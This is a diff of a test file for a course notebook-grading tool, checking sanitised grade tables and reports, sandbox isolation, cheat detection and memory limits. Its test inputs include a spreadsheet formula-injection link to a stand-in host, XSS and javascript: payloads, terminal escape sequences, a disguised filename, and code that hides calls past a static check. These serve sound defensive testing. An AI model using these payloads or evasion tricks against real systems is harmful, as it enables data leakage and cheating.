@@ -6,10 +6,13 @@ The default tier needs no worker process (a few seconds); grading a class is in 
 
 from __future__ import annotations
 
+import csv
 import filecmp
 import os
+import re
 import shutil
 import sys
+import unicodedata
 from pathlib import Path
 
 import nbformat
@@ -20,7 +23,7 @@ from course_utils.grading import cli as grade
 from course_utils.grading import judge as grade_judge
 from course_utils.grading import plan as grade_plan
 from course_utils.grading.exercises import Invalid, checker_calls, code_sources, exercises, identify, load_check
-from course_utils.grading.report import markdown
+from course_utils.grading.report import Result, markdown, write_reports
 
 ROOT = Path(__file__).resolve().parents[1]
 SUBMISSIONS = ROOT / "tests" / "submissions"
@@ -100,14 +103,66 @@ def test_report_counts_most_common_mistake_first_and_lists_flags():
 
 
 def test_rows_and_csv(tmp_path):
-    results = [{"submission": "b.ipynb", "exercise": "05_causal_mask", "flags": "",
-                "values": {"causal_mask": "correct", "masked_attention": "timed out", "leaks_future": "not done"}},
-               {"submission": "a.ipynb", "exercise": "", "values": {}, "flags": "", "invalid": "invalid: not a notebook"}]
+    results = [Result("b.ipynb", "05_causal_mask",
+                      {"causal_mask": "correct", "masked_attention": "timed out", "leaks_future": "not done"}),
+               Result("a.ipynb", problem="invalid: not a notebook")]
     rows = grade.table_rows(results)
     grade.write_csv(rows, tmp_path / "grades.csv")
     lines = (tmp_path / "grades.csv").read_text().splitlines()
     assert lines[0] == "submission,exercise,correct,tasks,causal_mask,masked_attention,leaks_future,flags"
     assert lines[1].startswith("a.ipynb,,0,0,invalid: not a notebook,") and lines[2].startswith("b.ipynb,05_causal_mask,1,3,")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv"]  # no temporary file left
+
+
+HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
+           "name\n# Forged heading\n", "caf\udce9/05.ipynb", "lone \ud800 surrogate", "\x1b[31mred\x1b[0m\x07\x1b]0;title\x07",
+           "<script>alert(1)</script>", "<img src=http://x.example/t.png>", "[click](javascript:alert(1))",
+           "![i](http://x.example/t.png)", "a|b", "\u202egnp.exe"]
+
+
+def test_any_name_or_message_becomes_a_safe_row_and_a_safe_report(tmp_path):
+    """Odd bytes (Latin-1 names, lone surrogates) never stop the table; no cell is a formula, no raw HTML,
+    link or image, no forged line and no control character reaches grades.csv or the reports."""
+    results = [Result(f"{name}/05_causal_mask.ipynb", "05_causal_mask",
+                      {"causal_mask": f"wrong: {name}", "masked_attention": f"crashed: {name}", "leaks_future": "correct"},
+                      flags=f"causal_mask: copy of {name}") for name in HOSTILE]
+    results += [Result(name, problem=f"invalid: {name}") for name in HOSTILE]
+    rows = grade.table_rows(results)
+    out = tmp_path / "grades.csv"
+    grade.write_csv(rows, out)
+    paths = write_reports(rows, out, "none (\x1b[2J<b>)")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv", "grades_report.html", "grades_report.md"]
+    with out.open(newline="", encoding="utf-8") as f:
+        table = list(csv.reader(f))
+    assert len(table) == 1 + 2 * len(HOSTILE)
+    assert_safe_outputs(out, paths)
+    assert any(r[0] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")/05_causal_mask.ipynb" for r in table)
+    assert any(r[0] == "caf\\xe9/05.ipynb" for r in table)  # the Latin-1 byte, shown as itself
+
+
+def assert_safe_outputs(csv_path: Path, reports: list[Path]) -> None:
+    """The check of issue 30 on a grade table and its reports (also used by the class test)."""
+    raw = csv_path.read_bytes()
+    raw.decode("utf-8")
+    with csv_path.open(newline="", encoding="utf-8") as f:
+        for row in csv.reader(f):
+            for cell in row:
+                assert cell.lstrip()[:1] not in ("=", "+", "-", "@"), cell
+                assert not any(unicodedata.category(c) in ("Cc", "Cs") for c in cell), repr(cell)
+    for path in reports:
+        text = path.read_text(encoding="utf-8")
+        assert not any(unicodedata.category(c) in ("Cc", "Cs") and c != "\n" for c in text), path
+        lowered = text.lower()
+        assert "<script" not in lowered and "<img" not in lowered, path
+        if path.suffix == ".md":
+            headings = [line for line in text.splitlines() if line.startswith("#")]
+            assert all(h.startswith(("# Class report", "## ", "### ")) for h in headings), headings
+            assert "Forged heading" not in "\n".join(h for h in headings), headings
+            assert not re.search(r"(?<!\\)\]\(", text), "a Markdown link or image in the report"
+        else:
+            tags = set(re.findall(r"<([a-zA-Z0-9]+)", text))
+            assert tags <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "table", "tr",
+                            "th", "td", "ul", "li"}, tags
 
 
 # -- reading a submission -----------------------------------------------------------------------------
@@ -225,8 +280,90 @@ def test_the_sandbox_mounts_its_empty_tmp_before_python_so_a_venv_under_tmp_stay
 
     venv = "/tmp/tmp.ci/venv"  # CI's virtual environment lives in a mktemp -d folder
     monkeypatch.setattr(sys, "prefix", venv)
-    argv = grade_sandbox._bwrap_argv(tmp_path / "work", tmp_path / "package")
+    argv = grade_sandbox._bwrap_argv(tmp_path / "work", tmp_path / "package", grade_sandbox.Limits())
     tmpfs = argv.index("--tmpfs")
-    assert argv[tmpfs + 1] == "/tmp"
+    assert argv[tmpfs + 1] == "/tmp" and argv[tmpfs - 2:tmpfs] == ["--size", str(grade_sandbox.Limits().folder_bytes)]
+    assert str(tmp_path / "work") not in argv  # the worker's folder is a tmpfs of a fixed size, not a host folder
     binds = [i for i, a in enumerate(argv) if a == "--ro-bind" and argv[i + 1].startswith("/tmp/")]
     assert binds and all(i > tmpfs for i in binds), "a bind under /tmp placed before the tmpfs is hidden by it"
+
+
+def test_a_cell_too_deep_to_read_costs_only_itself_and_blank_lines_are_cheap():
+    """An unused long sum in a lesson cell (too deep for Python's parser) is a broken cell, not a failed
+    notebook; 60,000 blank lines are read in linear time (the definition regex)."""
+    task = exercises()["05_causal_mask"].tasks[0]
+    cells = ["import torch", "def causal_mask(n):\n    return torch.ones(n, n, dtype=torch.bool).tril()",
+             "total = " + "+".join(["1"] * 100_000), "x = 1" + "\n" * 60_000 + "y = 2"]
+    plan = grade_plan.make_plan(cells, ["causal_mask"])
+    assert [c for c, _, _ in plan.cells] == [0, 1] and 2 in plan.broken
+    assert grade_plan.twin_calls(task, cells) == [] and grade_plan.copied_from(cells, "causal_mask") == ""
+    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells])
+    with pytest.raises(Invalid):  # read to the end, fast: none of the other tasks is defined
+        identify(nb, exercises())
+    from course_utils.grading.exercises import DEFINITION
+
+    assert not DEFINITION.pattern.count("\\s")  # \s would cross lines: quadratic in a run of blank lines
+
+
+def test_isolation_fails_closed(tmp_path, monkeypatch, capsys):
+    """An isolation asked for that cannot be had stops the run (exit status 2, before any student code runs);
+    a weaker one needs to be asked for by name with --i-understand; student code never runs as root."""
+    from course_utils.grading import sandbox as grade_sandbox
+
+    monkeypatch.setattr(grade_sandbox.shutil, "which", lambda name: None)
+    for want in ("auto", "bubblewrap"):
+        with pytest.raises(grade_sandbox.Refused, match="bubblewrap is not installed"):
+            grade_sandbox.detect(1, tmp_path, tmp_path, want)
+    for want in ("user", "none"):
+        with pytest.raises(grade_sandbox.Refused, match="--i-understand"):
+            grade_sandbox.detect(1, tmp_path, tmp_path, want)
+    if os.geteuid() == 0:
+        with pytest.raises(grade_sandbox.Refused, match="as root"):
+            grade_sandbox.detect(1, tmp_path, tmp_path, "none", accept_less=True)
+    else:
+        assert grade_sandbox.detect(1, tmp_path, tmp_path, "none", accept_less=True).kind == "none"
+    folder = tmp_path / "class" / "alice"
+    folder.mkdir(parents=True)
+    shutil.copy(SUBMISSIONS / "alice" / "05_causal_mask.ipynb", folder)
+    assert grade.main([str(tmp_path / "class"), "--out", str(tmp_path / "out" / "grades.csv")]) == 2
+    assert "stopped before grading: bubblewrap is not installed" in capsys.readouterr().err
+    assert not (tmp_path / "out" / "grades.csv").exists()
+
+
+DISGUISED = {  # issue 30: calls of the course's own causal_mask the static check cannot follow
+    "__import__": "def causal_mask(n):\n    return getattr(__import__('course_' + 'utils'), 'causal_' + 'mask')(n)",
+    "a dict": "F = {'m': course_utils.causal_mask}\n\n\ndef causal_mask(n):\n    return F['m'](n)",
+    "tuple unpacking": "f, g = course_utils.causal_mask, 1\n\n\ndef causal_mask(n):\n    return f(n)",
+    "a walrus": "def causal_mask(n):\n    return (f := course_utils.causal_mask)(n)",
+    "a for loop": "for f in [cm]:\n    pass\n\n\ndef causal_mask(n):\n    return f(n)",
+    "sys.modules": "def causal_mask(n):\n    return sys.modules['course_utils'].causal_mask(n)",
+    "vars": "def causal_mask(n):\n    return vars(course_utils)['causal_mask'](n)",
+    "attrgetter": "def causal_mask(n):\n    return operator.attrgetter('causal_mask')(course_utils)(n)",
+    "exec of base64": "exec(base64.b64decode('ZiA9IDE='))\n\n\ndef causal_mask(n):\n    return f(n)",
+    "exec of getsource": "exec(inspect.getsource(course_utils.core.masks))\n\n\ndef causal_mask(n):\n    return causal_mask2(n)",
+}
+
+
+@pytest.mark.parametrize("how", sorted(DISGUISED))
+def test_what_the_static_check_cannot_follow_is_flagged(how):
+    setup = "import torch\nimport course_utils\nimport operator, sys, base64, inspect\nfrom course_utils import causal_mask as cm"
+    assert grade_plan.reaches_course([setup, DISGUISED[how]], "causal_mask")
+    honest = "def causal_mask(n):\n    model.eval()\n    return torch.ones(n, n, dtype=torch.bool).tril() & (PAD_ID >= 0)"
+    assert grade_plan.reaches_course([setup + "\nfrom course_utils import PAD_ID", honest], "causal_mask") == ""
+
+
+def test_a_memory_cgroup_counts_memfd(tmp_path):
+    """Memory in a memfd is not address space: the slot's cgroup (where the machine allows one) kills it."""
+    from course_utils.grading import cgroup
+
+    group = cgroup.create(f"course-grade-test-{os.getpid()}", 64 * 2**20)
+    if not group:
+        pytest.skip("no memory cgroup can be made here (the address-space limit and file limits only)")
+    code = ("import os\nfd = os.memfd_create('x')\nfor _ in range(256):\n    os.write(fd, b'x' * 2**20)\n")
+    try:
+        import subprocess
+
+        done = subprocess.run([sys.executable, "-c", code], preexec_fn=lambda: cgroup.join(group), timeout=60, check=False)
+        assert done.returncode == -9, done.returncode  # killed by the kernel, at 64 MiB of 256
+    finally:
+        cgroup.remove(group)
